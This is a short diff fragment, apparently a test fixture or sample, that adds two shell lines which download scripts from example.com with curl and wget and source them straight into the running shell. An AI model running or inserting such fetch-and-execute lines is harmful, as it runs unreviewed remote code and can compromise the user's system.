@@ -1,0 +1,2 @@
+. <(curl -s http://example.com/a.sh)
+source <(wget -qO- http://example.com/b.sh)
